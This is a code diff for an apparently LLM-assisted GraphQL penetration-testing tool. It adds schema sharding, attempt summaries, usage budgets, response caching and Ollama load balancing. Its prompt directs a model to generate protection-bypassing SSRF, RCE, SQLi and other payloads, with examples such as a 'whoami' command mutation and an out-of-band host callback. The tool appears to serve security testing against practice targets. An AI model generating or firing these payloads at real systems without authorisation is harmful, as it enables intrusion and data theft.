@@ -8,12 +8,18 @@ mcp-GraphQL - Model-assisted Cyber Penetration for GraphQL
 
 import argparse
 import configparser
+import hashlib
 import json
 import os
+import queue
+import random
+import re
 import sys
+import threading
 import time
+from collections import OrderedDict
 from typing import Optional, Dict, Any
-from urllib.parse import urljoin
+from urllib.parse import urljoin, urlparse
 
 import requests
 
@@ -102,6 +108,11 @@ class SessionConfig:
 
         return kwargs
 
+    def auth_fingerprint(self) -> str:
+        """当前认证上下文（Headers + Cookies）的指纹，用于区分不同身份下的缓存"""
+        material = json.dumps({'headers': self.headers, 'cookies': self.cookies}, sort_keys=True)
+        return hashlib.sha256(material.encode('utf-8')).hexdigest()[:16]
+
     def display_config(self):
         """显示当前配置（隐藏敏感信息）"""
         if len(self.headers) > 1:  # 除了 Content-Type
@@ -187,7 +198,9 @@ def load_config(config_file: str = 'config.ini') -> dict:
         'api_key': None,
         'model': None,
         'oast_domain': None,
-        'timeout': None
+        'timeout': None,
+        'ollama_urls': None,
+        'rce_time_threshold': None
     }
 
     # 检查配置文件是否存在
@@ -213,6 +226,11 @@ def load_config(config_file: str = 'config.ini') -> dict:
                 if model:
                     config['model'] = model
                     log_info(f"从配置文件读取模型: {model}")
+            if parser.has_option('LLM', 'ollama_api_url'):
+                urls = [u.strip() for u in parser.get('LLM', 'ollama_api_url').split(',') if u.strip()]
+                if urls:
+                    config['ollama_urls'] = urls
+                    log_info(f"从配置文件读取 Ollama 地址: {', '.join(urls)}")
 
         # 读取扫描配置
         if parser.has_section('SCAN'):
@@ -223,6 +241,12 @@ def load_config(config_file: str = 'config.ini') -> dict:
                 except ValueError:
                     pass
 
+            if parser.has_option('SCAN', 'rce_time_threshold'):
+                try:
+                    config['rce_time_threshold'] = parser.getfloat('SCAN', 'rce_time_threshold')
+                except ValueError:
+                    pass
+
             if parser.has_option('SCAN', 'default_oast_domain'):
                 oast = parser.get('SCAN', 'default_oast_domain')
                 if oast and oast != 'example.oastify.com':
@@ -394,6 +418,8 @@ def detect_graphql_endpoint(base_url: str, timeout: int = 10) -> Optional[str]:
 
     for path in GRAPHQL_PATHS:
         url = urljoin(base_url, path.lstrip('/'))
+        if not scan_budget.take_request():
+            return None
         try:
             response = requests.post(url, json=fingerprint_query, **request_kwargs)
             if response.status_code == 200:
@@ -411,6 +437,7 @@ def detect_graphql_endpoint(base_url: str, timeout: int = 10) -> Optional[str]:
     for path in GRAPHQL_PATHS:
         url = urljoin(base_url, path.lstrip('/'))
         try:
+            scan_budget.take_request()
             response = requests.get(url, params={"query": "{ __typename }"}, **request_kwargs)
             if response.status_code == 200:
                 try:
@@ -587,6 +614,7 @@ def fetch_introspection(endpoint: str, timeout: int = 10) -> Optional[dict]:
 
     # 首先尝试完整内省查询
     try:
+        scan_budget.take_request()
         response = requests.post(
             endpoint,
             json={"query": INTROSPECTION_QUERY_FULL},
@@ -608,6 +636,7 @@ def fetch_introspection(endpoint: str, timeout: int = 10) -> Optional[dict]:
     log_warning("完整内省查询失败，尝试简化版本...")
 
     try:
+        scan_budget.take_request()
         response = requests.post(
             endpoint,
             json={"query": INTROSPECTION_QUERY_SIMPLE},
@@ -836,7 +865,7 @@ def parse_mutations(schema: dict) -> list:
             mutation['args'].append(arg_info)
             mutation['risks'].extend(arg_info['risks'])
 
-        mutation['risks'] = list(set(mutation['risks']))
+        mutation['risks'] = list(dict.fromkeys(mutation['risks']))
         mutations.append(mutation)
 
     return mutations
@@ -891,7 +920,7 @@ def parse_queries(schema: dict) -> list:
             query['args'].append(arg_info)
             query['risks'].extend(arg_info['risks'])
 
-        query['risks'] = list(set(query['risks']))
+        query['risks'] = list(dict.fromkeys(query['risks']))
         queries.append(query)
 
     return queries
@@ -994,10 +1023,184 @@ def format_mutations_for_llm(mutations: list, queries: list = None) -> str:
     return "\n".join(lines)
 
 
-def build_llm_prompt(mutations_text: str, oast_domain: str, iteration: int = 1, previous_attempts: list = None) -> str:
-    """构建 LLM 提示词（支持智能迭代）"""
+def estimate_tokens(text: str) -> int:
+    """粗略估算文本 token 数（ASCII 约 4 字符 / token，中文约 1 字符 / token）"""
+    ascii_chars = sum(1 for ch in text if ord(ch) < 128)
+    return ascii_chars // 4 + (len(text) - ascii_chars) + 1
+
+
+def _primary_risk(op: dict) -> str:
+    """操作的主要风险类型（权重最高者），用于分片时的亲和分组"""
+    return max(op.get('risks', []), key=lambda r: RISK_WEIGHTS.get(r, 0), default='generic')
+
+
+def _group_operations(mutations: list, queries: list = None, ranking: list = None) -> list:
+    """按 (操作类型, 主要风险) 分组，分组按其中最靠前操作的优先级排序，返回 [[(位置, 类型, op), ...], ...]"""
+    rank = {name: i for i, name in enumerate(ranking or [])}
+    groups: Dict[tuple, list] = {}
+    for kind, ops in (('mutation', mutations or []), ('query', queries or [])):
+        for position, op in enumerate(ops):
+            position = rank.get(op['name'], position)
+            groups.setdefault((kind, _primary_risk(op)), []).append((position, kind, op))
+    return sorted(groups.values(), key=lambda g: (min(item[0] for item in g), g[0][1] != 'mutation'))
+
+
+def cluster_operations(mutations: list, queries: list = None, ranking: list = None) -> list:
+    """
+    把操作按 (操作类型, 主要风险) 聚成簇，用作独立的 Fuzzing 会话
+
+    Returns:
+        list: [{'label': 簇名称, 'mutations': [...], 'queries': [...]}, ...]，按优先级排序
+    """
+    clusters = []
+    for group in _group_operations(mutations, queries, ranking):
+        kind, risk = group[0][1], _primary_risk(group[0][2])
+        ops = [op for _, _, op in sorted(group, key=lambda item: item[0])]
+        clusters.append({
+            'label': f"{kind}:{risk}",
+            'mutations': ops if kind == 'mutation' else [],
+            'queries': ops if kind == 'query' else []
+        })
+    return clusters
+
+
+def shard_operations(mutations: list, queries: list = None, token_budget: int = 3000, ranking: list = None) -> list:
+    """
+    把操作切分为受 token 预算约束的分片
+
+    同一 (操作类型, 主要风险) 的操作在分片中保持相邻，分组按其中最靠前操作的
+    优先级排序（ranking 为按优先级排列的操作名，缺省时使用传入顺序），
+    小分组会与相邻分组合并到同一分片。
+
+    Returns:
+        list: [{'mutations': [...], 'queries': [...], 'tokens': int}, ...]
+    """
+    shards = []
+    current = {'mutations': [], 'queries': [], 'tokens': 0}
+    for group in _group_operations(mutations, queries, ranking):
+        for _, kind, op in group:
+            if kind == 'mutation':
+                op_tokens = estimate_tokens(format_mutations_for_llm([op]))
+            else:
+                op_tokens = estimate_tokens(format_mutations_for_llm([], [op]))
+            if current['tokens'] and current['tokens'] + op_tokens > token_budget:
+                shards.append(current)
+                current = {'mutations': [], 'queries': [], 'tokens': 0}
+            current['mutations' if kind == 'mutation' else 'queries'].append(op)
+            current['tokens'] += op_tokens
+    if current['tokens']:
+        shards.append(current)
+    return shards
+
+
+PAYLOAD_OUTPUT_MODES = ('json', 'text')
+
+# 各输出模式的格式要求（插入生成提示词的稳定前缀中）
+PAYLOAD_OUTPUT_FORMATS = {
+    'text': """# 输出格式要求
+1. 每个 payload 前标注类型标签: [SSRF], [RCE], [SQLi], [XSS], [AUTHZ], [IDOR], [INFO_LEAK], [DOS]
+2. 只输出合法 GraphQL 语法，不要解释
+3. Payload 要有创意，尝试绕过常见防护
+4. **子选择必须使用 `{ __typename }`，不要使用其他假设的字段名**
+5. **RCE 请优先使用回显命令（whoami, id 等），而不仅仅是 sleep**""",
+    'json': """# 输出格式要求（JSON）
+只输出一个 JSON 对象，不要使用 Markdown 代码块，也不要输出任何解释，格式如下：
+{"payloads": [
+  {"type": "RCE", "operation": "systemDiagnostics", "payload": "mutation { systemDiagnostics(cmd: \\"whoami\\") { __typename } }", "variables": {}, "expected_signal": "响应中出现用户名（如 www-data）"}
+]}
+字段说明：
+- type: 漏洞类型标签，取值 SSRF, RCE, SQLi, XSS, AUTHZ, IDOR, INFO_LEAK, DOS
+- operation: 目标 mutation / query 名称
+- payload: 完整的 GraphQL 文档（JSON 字符串，注意转义双引号）
+- variables: payload 中 $变量 的取值，没有变量时为 {}
+- expected_signal: 存在漏洞时预期在响应中看到的现象
+其他要求：
+1. Payload 要有创意，尝试绕过常见防护
+2. **子选择必须使用 `{ __typename }`，不要使用其他假设的字段名**
+3. **RCE 请优先使用回显命令（whoami, id 等），而不仅仅是 sleep**
+4. 下面的示例只演示 GraphQL 写法，输出时放进 payload 字段""",
+}
+
+
+def _error_signature(response_snippet: str) -> Optional[str]:
+    """从响应片段中提取 GraphQL 错误消息，数字归一化后作为错误签名"""
+    match = re.search(r'"message"\s*:\s*"((?:[^"\\]|\\.)*)"', response_snippet or '')
+    if not match:
+        return None
+    try:
+        message = json.loads(f'"{match.group(1)}"')
+    except ValueError:
+        message = match.group(1)
+    return re.sub(r'\d+', 'N', message)[:120]
+
+
+def summarize_attempts(previous_attempts: list, max_items: int = 8) -> str:
+    """
+    把历史测试结果压缩为固定规模的摘要
+
+    包括：已确认的发现、按签名去重的错误（附次数和一个示例）、
+    各操作已测试的漏洞类型、自动修复统计和去重后的分析要点。
+    每类最多 max_items 条，因此摘要长度不随测试次数增长。
+    """
+    findings = []
+    errors: dict = OrderedDict()  # 签名 -> [次数, 示例 Payload]
+    tested: dict = OrderedDict()  # 操作 -> {类型}
+    fixes: dict = {}
+    insights = []
+
+    for attempt in previous_attempts:
+        vuln_type = attempt.get('type', 'UNKNOWN')
+        payload = attempt.get('payload', '')
+        if attempt.get('vulnerable'):
+            findings.append(f"- [{vuln_type}] {' '.join(payload.split())[:120]} → {attempt.get('details', '')[:80]}")
+
+        signature = _error_signature(attempt.get('response_snippet', ''))
+        if signature:
+            entry = errors.setdefault(signature, [0, ' '.join(payload.split())[:100]])
+            entry[0] += 1
+
+        for field in extract_operation_fields(payload):
+            tested.setdefault(field['name'], set()).add(vuln_type)
+
+        if attempt.get('error_fixed'):
+            method = attempt.get('fix_method', 'unknown')
+            fixes[method] = fixes.get(method, 0) + 1
+
+        # 只保留 LLM 给出的分析（规则分诊的结论已体现在发现和错误签名中）
+        analysis = ' '.join((attempt.get('analysis') or '').split())[:100]
+        if analysis and attempt.get('status_code') and 'triage' not in attempt and analysis not in insights:
+            insights.append(analysis)
+
+    sections = []
+    if findings:
+        sections.append("## 已确认的发现\n" + "\n".join(findings[-max_items:]))
+    if errors:
+        ranked = sorted(errors.items(), key=lambda item: -item[1][0])[:max_items]
+        sections.append("## 错误签名（次数, 示例）\n" + "\n".join(
+            f"- {signature} ×{count}（如: {example}）" for signature, (count, example) in ranked))
+    if tested:
+        sections.append("## 已测试\n" + "\n".join(
+            f"- {name}: {', '.join(sorted(types))}" for name, types in list(tested.items())[:max_items * 2]))
+    if fixes:
+        sections.append("## 自动修复\n" + ", ".join(f"{method} ×{count}" for method, count in fixes.items())
+                        + "（说明原始 Payload 存在结构错误，请直接生成正确结构）")
+    if insights:
+        sections.append("## 分析要点\n" + "\n".join(f"- {text}" for text in insights[-max_items:]))
+    return "\n\n".join(sections)
+
+
+def build_llm_prompt(mutations_text: str, oast_domain: str, iteration: int = 1, previous_attempts: list = None,
+                     coverage_hint: str = None, output_mode: str = 'text') -> str:
+    """
+    构建 LLM 提示词（支持智能迭代，coverage_hint 为尚未覆盖的测试目标）
+
+    提示词分为稳定前缀和增量两部分：前缀依次为固定的说明、示例和 Schema，
+    同一分片在整个扫描中逐字节不变，便于服务端前缀缓存和本地 LLM 缓存命中；
+    第 2 轮起在末尾追加 summarize_attempts 生成的精简历史和覆盖提示，长度不随轮次增长。
+    output_mode 为 json 时要求模型输出结构化 JSON（见 PAYLOAD_OUTPUT_FORMATS）。
+    """
 
-    base_prompt = f"""你是一名 GraphQL 安全专家。你的任务是对以下 GraphQL Schema 进行智能渗透测试。
+    base_prompt = f"""你是一名 GraphQL 安全专家。你的任务是对下文「GraphQL Schema」一节给出的 Schema 进行智能渗透测试。
 
 # ⚠️ 重要：字段构造规则（必须遵守）
 1. **不要假设任何字段存在** - 你不知道目标 GraphQL 的完整 Schema
@@ -1006,9 +1209,6 @@ def build_llm_prompt(mutations_text: str, oast_domain: str, iteration: int = 1,
 4. **只使用 Schema 中明确列出的字段和参数**
 5. **如果响应类型不明确，使用 `{{ __typename }}` 而不是猜测字段名**
 
-# GraphQL Schema（仅使用以下已知的 mutations/queries 和参数）
-{mutations_text}
-
 # 漏洞测试目标
 请生成针对以下漏洞类型的测试 Payload（基于 DVGA 靶机标准）：
 
@@ -1057,12 +1257,7 @@ def build_llm_prompt(mutations_text: str, oast_domain: str, iteration: int = 1,
    - 批量查询（Batch Query Attack）
    - 深度递归查询（Deep Recursion）
 
-# 输出格式要求
-1. 每个 payload 前标注类型标签: [SSRF], [RCE], [SQLi], [XSS], [AUTHZ], [IDOR], [INFO_LEAK], [DOS]
-2. 只输出合法 GraphQL 语法，不要解释
-3. Payload 要有创意，尝试绕过常见防护
-4. **子选择必须使用 `{{ __typename }}`，不要使用其他假设的字段名**
-5. **RCE 请优先使用回显命令（whoami, id 等），而不仅仅是 sleep**
+{PAYLOAD_OUTPUT_FORMATS[output_mode]}
 
 # 正确示例（使用 __typename）
 [SSRF]
@@ -1085,26 +1280,21 @@ query {{ paste(id: 1001) {{ __typename }} }}
 # 错误示例（不要这样做）
 mutation {{ importPaste(host: "{oast_domain}") {{ result author {{ username }} }} }}  # 错误：假设存在 author 字段
 query {{ user(id: 1) {{ token password email }} }}  # 错误：假设存在 token/password/email 字段
+
+# GraphQL Schema（仅使用以下已知的 mutations/queries 和参数）
+{mutations_text}
 """
 
-    # 如果是第2轮及以后，添加之前的尝试和分析
+    # 如果是第2轮及以后，在稳定前缀之后追加精简的历史摘要
     if iteration > 1 and previous_attempts:
-        base_prompt += f"\n\n# 🔄 智能迭代（第 {iteration} 轮）\n"
-        base_prompt += "你之前已经尝试过以下 Payload，但未成功或需要改进：\n\n"
-
-        for attempt in previous_attempts[-5:]:  # 显示最近5次尝试
-            base_prompt += f"## 尝试 #{attempt['round']}\n"
-            base_prompt += f"**Payload**: {attempt['payload'][:200]}...\n"
-            base_prompt += f"**响应**: HTTP {attempt.get('status_code', 'N/A')}\n"
-            base_prompt += f"**响应内容**: {attempt.get('response_snippet', 'N/A')}\n"
-
-            # 添加错误修复信息
-            if attempt.get('error_fixed'):
-                base_prompt += f"**已自动修复**: 是 (方法: {attempt.get('fix_method', 'unknown')})\n"
-                if attempt.get('original_payload'):
-                    base_prompt += f"**原始 Payload**: {attempt['original_payload'][:200]}...\n"
+        base_prompt += f"\n# 🔄 智能迭代（第 {iteration} 轮）\n"
+        base_prompt += f"之前共测试了 {len(previous_attempts)} 个 Payload，结果摘要如下（不要重复已测试的 Payload）：\n\n"
+        base_prompt += summarize_attempts(previous_attempts) + "\n\n"
 
-            base_prompt += f"**分析**: {attempt.get('analysis', '无明显漏洞特征')}\n\n"
+        if coverage_hint:
+            base_prompt += "# 🎯 尚未覆盖的测试目标\n"
+            base_prompt += "以下操作 / 参数 / 漏洞类型还没有被测试过，本轮请优先为它们生成 Payload：\n"
+            base_prompt += coverage_hint + "\n"
 
         base_prompt += """
 # 🧠 改进策略
@@ -1124,158 +1314,1084 @@ query {{ user(id: 1) {{ token password email }} }}  # 错误：假设存在 toke
     return base_prompt
 
 
-def call_qwen_api(prompt: str, api_key: str, model: str = 'qwen-turbo', timeout: int = 60) -> Optional[str]:
-    """调用阿里云 DashScope Qwen API（带超时控制）"""
-    import concurrent.futures
+class LLMUsageTracker:
+    """
+    LLM 用量统计与预算
 
-    def _call_api():
-        import dashscope
-        from dashscope import Generation
+    记录每次调用的提示词 / 输出 token、耗时、模型和调用点（generate / analyze / fix），
+    并按调用点、轮次、目标和模型汇总。设置了预算（tokens / calls / seconds）时，
+    用尽后 LLMClient 不再发起新调用，调用方回退到确定性路径。
+    后端没有返回 token 数时使用 estimate_tokens 估算。
+    """
+
+    BUDGET_KEYS = ('tokens', 'calls', 'seconds')
+
+    def __init__(self, budget: dict = None):
+        self.budget = budget or {}
+        self._context = threading.local()
+        self.target = ''
+        self.totals = self._empty()
+        self.cached = 0
+        self.by_call_site: dict = {}
+        self.by_round: dict = {}
+        self.by_target: dict = {}
+        self.by_model: dict = {}
+        self._lock = threading.Lock()
+        self._exhausted_reported = False
+
+    @property
+    def round(self) -> int:
+        """当前线程所属的轮次（并发的 Fuzzing 会话各自处于不同轮次，因此按线程记录）"""
+        return getattr(self._context, 'round', 0)
+
+    @round.setter
+    def round(self, value: int):
+        self._context.round = value
+
+    @staticmethod
+    def _empty() -> dict:
+        return {'calls': 0, 'failed': 0, 'prompt_tokens': 0, 'completion_tokens': 0, 'seconds': 0.0}
+
+    @classmethod
+    def parse_budget(cls, spec: str) -> dict:
+        """解析预算参数，如 "tokens=50000,calls=200,seconds=600"
+
+        Raises:
+            ValueError: 格式错误或未知的预算项
+        """
+        budget = {}
+        for item in filter(None, (part.strip() for part in (spec or '').split(','))):
+            key, sep, value = item.partition('=')
+            key = key.strip().lower()
+            if not sep or key not in cls.BUDGET_KEYS:
+                raise ValueError(f"无效的预算项: {item}（可用: {', '.join(cls.BUDGET_KEYS)}）")
+            budget[key] = float(value)
+        return budget
+
+    def record(self, call_site: str, model: str, prompt_tokens: int, completion_tokens: int,
+               seconds: float, failed: bool = False):
+        """记录一次实际发出的调用"""
+        round_key = f"第 {self.round} 轮" if self.round else '轮次外'
+        with self._lock:
+            for bucket in (self.totals,
+                           self.by_call_site.setdefault(call_site, self._empty()),
+                           self.by_round.setdefault(round_key, self._empty()),
+                           self.by_target.setdefault(self.target or '-', self._empty()),
+                           self.by_model.setdefault(model, self._empty())):
+                bucket['calls'] += 1
+                bucket['failed'] += int(failed)
+                bucket['prompt_tokens'] += prompt_tokens
+                bucket['completion_tokens'] += completion_tokens
+                bucket['seconds'] = round(bucket['seconds'] + seconds, 3)
+
+    def record_cached(self):
+        with self._lock:
+            self.cached += 1
+
+    def used(self, key: str) -> float:
+        if key == 'tokens':
+            return self.totals['prompt_tokens'] + self.totals['completion_tokens']
+        return self.totals[key]
+
+    def exhausted(self) -> Optional[str]:
+        """返回已用尽的预算项名称；未设置预算或未用尽时返回 None"""
+        for key, limit in self.budget.items():
+            if self.used(key) >= limit:
+                if not self._exhausted_reported:
+                    self._exhausted_reported = True
+                    log_warning(f"LLM 预算已用尽（{key}: {self.used(key):g}/{limit:g}），后续转为确定性处理")
+                return key
+        return None
 
-        dashscope.api_key = api_key
+    def summary(self) -> dict:
+        with self._lock:
+            summary = dict(self.totals)
+            summary['total_tokens'] = summary['prompt_tokens'] + summary['completion_tokens']
+            summary['cached'] = self.cached
+            summary['by_call_site'] = {k: dict(v) for k, v in self.by_call_site.items()}
+            summary['by_round'] = {k: dict(v) for k, v in self.by_round.items()}
+            summary['by_target'] = {k: dict(v) for k, v in self.by_target.items()}
+            summary['by_model'] = {k: dict(v) for k, v in self.by_model.items()}
+        if self.budget:
+            summary['budget'] = dict(self.budget)
+            summary['exhausted'] = self.exhausted()
+        return summary
+
+    def display_stats(self):
+        if not self.totals['calls'] and not self.cached:
+            return
+        per_site = ', '.join(f"{site} {bucket['calls']}" for site, bucket in self.by_call_site.items())
+        log_info(f"LLM 用量: {self.totals['calls']} 次调用 [{per_site}], 缓存命中 {self.cached} 次, "
+                 f"tokens {self.totals['prompt_tokens']}+{self.totals['completion_tokens']}, "
+                 f"耗时 {self.totals['seconds']:.1f}s")
+
+
+class LLMResponseCache:
+    """
+    内容寻址的 LLM 响应磁盘缓存
 
-        # 如果 model 只是 'qwen'，默认使用 qwen-turbo
-        actual_model = model
-        if model.lower() == 'qwen':
-            actual_model = 'qwen-turbo'
+    键为 模型 + 规范化提示词 的 sha256；按调用类型（generate / analyze / fix）
+    分别启用。条目超过 TTL 失效，总大小超限时按最近使用时间（文件 mtime）淘汰。
+    """
+
+    DEFAULT_DIR = os.path.join(os.path.expanduser('~'), '.cache', 'mcp-graphql', 'llm')
+    CALL_TYPES = ('generate', 'analyze', 'fix')
+
+    def __init__(self, cache_dir: str = None, ttl: float = 7 * 86400, max_bytes: int = 100 * 1024 * 1024,
+                 call_types: tuple = CALL_TYPES):
+        self.cache_dir = cache_dir or self.DEFAULT_DIR
+        self.ttl = ttl
+        self.max_bytes = max_bytes
+        self.call_types = set(call_types)
+        self._lock = threading.Lock()
+        self._total_bytes = None  # 首次写入时扫描目录得到
+        self.stats = {t: {'hits': 0, 'misses': 0} for t in self.CALL_TYPES}
+        self.stats_evicted = 0
+
+    @staticmethod
+    def normalize_prompt(prompt: str) -> str:
+        """规范化提示词：去除行尾空白、合并行内空白和多余空行"""
+        lines = [re.sub(r'[ \t]+', ' ', line).strip() for line in prompt.strip().splitlines()]
+        return re.sub(r'\n{3,}', '\n\n', '\n'.join(lines))
+
+    def make_key(self, model: str, prompt: str) -> str:
+        material = f"{model}\n{self.normalize_prompt(prompt)}"
+        return hashlib.sha256(material.encode('utf-8')).hexdigest()
+
+    def _path(self, key: str) -> str:
+        return os.path.join(self.cache_dir, key[:2], f"{key}.json")
+
+    def enabled_for(self, call_type: str) -> bool:
+        return call_type in self.call_types
+
+    def get(self, model: str, prompt: str, call_type: str) -> Optional[str]:
+        """读取缓存，命中时刷新 mtime（LRU）"""
+        if not self.enabled_for(call_type):
+            return None
+
+        stats = self.stats.setdefault(call_type, {'hits': 0, 'misses': 0})
+        path = self._path(self.make_key(model, prompt))
+        try:
+            with open(path, 'r', encoding='utf-8') as f:
+                entry = json.load(f)
+        except (OSError, ValueError):
+            stats['misses'] += 1
+            return None
+
+        if self.ttl and time.time() - entry.get('created', 0) > self.ttl:
+            self._remove(path)
+            stats['misses'] += 1
+            return None
+
+        try:
+            os.utime(path, None)
+        except OSError:
+            pass
+        stats['hits'] += 1
+        return entry.get('response')
+
+    def put(self, model: str, prompt: str, call_type: str, response: str):
+        """写入缓存（先写临时文件再替换，避免并发读到半个文件）"""
+        if not self.enabled_for(call_type) or not response:
+            return
+
+        path = self._path(self.make_key(model, prompt))
+        entry = {'model': model, 'call_type': call_type, 'created': time.time(), 'response': response}
+        data = json.dumps(entry, ensure_ascii=False).encode('utf-8')
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            tmp_path = f"{path}.{threading.get_ident()}.tmp"
+            with open(tmp_path, 'wb') as f:
+                f.write(data)
+            os.replace(tmp_path, path)
+        except OSError as e:
+            log_warning(f"写入 LLM 缓存失败: {e}")
+            return
+
+        with self._lock:
+            if self._total_bytes is None:
+                self._total_bytes = sum(size for _, size, _ in self._scan())
+            else:
+                self._total_bytes += len(data)
+            if self._total_bytes > self.max_bytes:
+                self._evict()
+
+    def _scan(self) -> list:
+        """列出缓存文件: [(路径, 大小, mtime), ...]"""
+        entries = []
+        for root, _, files in os.walk(self.cache_dir):
+            for name in files:
+                if not name.endswith('.json'):
+                    continue
+                path = os.path.join(root, name)
+                try:
+                    st = os.stat(path)
+                except OSError:
+                    continue
+                entries.append((path, st.st_size, st.st_mtime))
+        return entries
+
+    def _remove(self, path: str):
+        try:
+            os.remove(path)
+        except OSError:
+            pass
+
+    def _evict(self):
+        """按最近使用时间淘汰，直到总大小降到上限的 80% 以下"""
+        entries = sorted(self._scan(), key=lambda e: e[2])
+        total = sum(size for _, size, _ in entries)
+        target = self.max_bytes * 0.8
+        for path, size, _ in entries:
+            if total <= target:
+                break
+            self._remove(path)
+            total -= size
+            self.stats_evicted += 1
+        self._total_bytes = total
+
+    def summary(self) -> dict:
+        """命中统计（用于运行总结和报告）"""
+        hits = sum(s['hits'] for s in self.stats.values())
+        misses = sum(s['misses'] for s in self.stats.values())
+        result = {'hits': hits, 'misses': misses, 'evicted': self.stats_evicted,
+                  'hit_rate': round(hits / (hits + misses), 4) if hits + misses else 0.0}
+        for call_type, s in self.stats.items():
+            if s['hits'] or s['misses']:
+                result[call_type] = f"{s['hits']}/{s['hits'] + s['misses']}"
+        return result
+
+    def display_stats(self):
+        summary = self.summary()
+        if not summary['hits'] and not summary['misses']:
+            return
+        per_type = ', '.join(f"{t} {summary[t]}" for t in self.CALL_TYPES if t in summary)
+        log_info(f"LLM 缓存: 命中 {summary['hits']}/{summary['hits'] + summary['misses']} "
+                 f"({summary['hit_rate']:.0%}) [{per_type}], 淘汰 {summary['evicted']}")
+
+
+class OllamaBackendPool:
+    """
+    多个 Ollama 兼容后端的负载均衡
+
+    每次调用选择在线且未达并发上限的后端中进行中请求最少的一个（least outstanding requests）；
+    全部达到上限时等待。连接失败的后端标记为离线，HEALTH_RETRY_INTERVAL 秒后通过
+    /api/tags 重新探测。地址可写成 "http://host:11434#2"，# 后为该后端的并发上限。
+    """
+
+    HEALTH_RETRY_INTERVAL = 30.0
+    HEALTH_TIMEOUT = 3
+
+    def __init__(self, urls: list = None, max_concurrency: int = 0):
+        self.backends = []
+        self._cond = threading.Condition()
+        self.set_backends(urls or [LLMClient.DEFAULT_OLLAMA_URL], max_concurrency)
+
+    def set_backends(self, urls: list, max_concurrency: int = 0):
+        """设置后端列表；max_concurrency 为未单独指定时的每后端并发上限（0 为不限）"""
+        backends = []
+        for url in urls:
+            url, _, limit = url.strip().partition('#')
+            backends.append({
+                'url': url.rstrip('/'),
+                'max_concurrency': int(limit) if limit.isdigit() else max_concurrency,
+                'outstanding': 0,
+                'served': 0,
+                'failures': 0,
+                'healthy': True,
+                'checked_at': 0.0,
+            })
+        with self._cond:
+            self.backends = backends
+            self._cond.notify_all()
+
+    def set_concurrency(self, max_concurrency: int):
+        """为尚未指定并发上限的后端（如默认的 localhost 后端）设置上限"""
+        with self._cond:
+            for backend in self.backends:
+                if not backend['max_concurrency']:
+                    backend['max_concurrency'] = max_concurrency
+            self._cond.notify_all()
+
+    @staticmethod
+    def _has_capacity(backend: dict) -> bool:
+        return not backend['max_concurrency'] or backend['outstanding'] < backend['max_concurrency']
+
+    def check_health(self, backend: dict, model: str = None) -> bool:
+        """通过 /api/tags 探测后端；指定 model 时同时检查模型是否已拉取"""
+        try:
+            response = requests.get(f"{backend['url']}/api/tags", timeout=self.HEALTH_TIMEOUT)
+            healthy = response.status_code == 200
+            if healthy and model:
+                names = {m.get('name', '') for m in response.json().get('models', [])}
+                if names and model not in names and f"{model}:latest" not in names:
+                    log_warning(f"Ollama 后端 {backend['url']} 上没有模型 {model}")
+        except (requests.RequestException, ValueError):
+            healthy = False
+        with self._cond:
+            backend['healthy'] = healthy
+            backend['checked_at'] = time.time()
+            self._cond.notify_all()
+        return healthy
+
+    def check_all(self, model: str = None) -> int:
+        """并发探测所有后端，返回在线数量"""
+        threads = [threading.Thread(target=self.check_health, args=(b, model), daemon=True) for b in self.backends]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+        return sum(1 for b in self.backends if b['healthy'])
+
+    def _recheck_stale(self):
+        now = time.time()
+        for backend in self.backends:
+            if not backend['healthy'] and now - backend['checked_at'] > self.HEALTH_RETRY_INTERVAL:
+                backend['checked_at'] = now  # 避免多个线程同时探测
+                threading.Thread(target=self.check_health, args=(backend,), daemon=True).start()
+
+    def acquire(self, timeout: float = None) -> dict:
+        """
+        选择一个后端并占用一个并发名额
+
+        全部后端离线时仍返回进行中请求最少的一个（让调用自然失败并给出错误信息）。
+
+        Raises:
+            TimeoutError: 在 timeout 秒内没有空闲名额
+        """
+        deadline = time.time() + timeout if timeout else None
+        with self._cond:
+            while True:
+                self._recheck_stale()
+                candidates = [b for b in self.backends if b['healthy']] or self.backends
+                available = [b for b in candidates if self._has_capacity(b)]
+                if available:
+                    backend = min(available, key=lambda b: (b['outstanding'], b['served']))
+                    backend['outstanding'] += 1
+                    return backend
+                remaining = deadline - time.time() if deadline else None
+                if remaining is not None and remaining <= 0:
+                    raise TimeoutError('等待 Ollama 后端空闲超时')
+                self._cond.wait(min(remaining, 1.0) if remaining else 1.0)
+
+    def release(self, backend: dict, failed: bool = False):
+        """释放名额；连接失败时把后端标记为离线"""
+        with self._cond:
+            backend['outstanding'] -= 1
+            if failed:
+                backend['failures'] += 1
+                backend['healthy'] = False
+                backend['checked_at'] = time.time()
+            else:
+                backend['served'] += 1
+            self._cond.notify_all()
+
+    def summary(self) -> dict:
+        return {b['url']: f"{b['served']} 次, 失败 {b['failures']}, {'在线' if b['healthy'] else '离线'}"
+                for b in self.backends}
+
+
+class LLMClient:
+    """
+    统一的 LLM 客户端
+
+    所有 LLM 调用（生成、分析、修复）都经过这里：常驻线程池执行请求，
+    Ollama 使用连接池复用 HTTP 连接，超时、重试和取消逻辑对各调用点一致。
+    配置了 cache 时先查 LLM 响应缓存，只有未命中的提示词才真正发送。
+    Ollama 请求由 OllamaBackendPool 分发到多个后端，并携带 keep_alive 让模型常驻内存。
+    """
+
+    DEFAULT_OLLAMA_URL = "http://localhost:11434"
+    DEFAULT_KEEP_ALIVE = "30m"
+    RETRY_BACKOFF = 1.0  # 重试退避基数（秒）
+    HARD_TIMEOUT_GRACE = 10  # 后端请求超时后等待工作线程退出的宽限时间（秒）
+
+    def __init__(self, max_workers: int = 4, timeout: int = 60, max_retries: int = 1):
+        self.max_workers = max_workers
+        self.timeout = timeout
+        self.max_retries = max_retries
+        self.ollama_pool = OllamaBackendPool()
+        self.keep_alive = self.DEFAULT_KEEP_ALIVE
+        self._executor = None
+        self._stream_executor = None
+        self._session = None
+        self._lock = threading.Lock()
+        self._cancelled = threading.Event()
+        self._pending: set = set()
+        self._missing_key_reported = False
+        self.cache: Optional[LLMResponseCache] = None
+        self.usage = LLMUsageTracker()
+
+    def configure(self, max_workers: int = None, timeout: int = None, max_retries: int = None,
+                  cache: LLMResponseCache = None, budget: dict = None, ollama_urls: list = None,
+                  backend_concurrency: int = 0, keep_alive: str = None):
+        """调整并发数 / 超时 / 重试 / 缓存 / 预算 / Ollama 后端（需在首次调用前设置并发数）"""
+        if max_workers:
+            self.max_workers = max_workers
+        if timeout:
+            self.timeout = timeout
+        if max_retries is not None:
+            self.max_retries = max_retries
